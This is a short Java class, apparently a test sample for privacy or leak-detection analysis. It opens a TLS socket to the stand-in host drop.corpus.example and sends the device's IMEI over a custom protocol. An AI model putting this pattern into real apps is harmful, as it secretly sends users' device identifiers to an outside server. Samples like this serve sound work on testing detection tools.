package org.corpus;

import javax.net.ssl.SSLSocketFactory;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A protocol of its own within TLS. */
public class RawTls extends Screen {
    @Override
    protected void act() throws Exception {
        Net.write(
                SSLSocketFactory.getDefault().createSocket("drop.corpus.example", 5117),
                Net.utf8("ID " + Owner.imei(this)));
    }
}
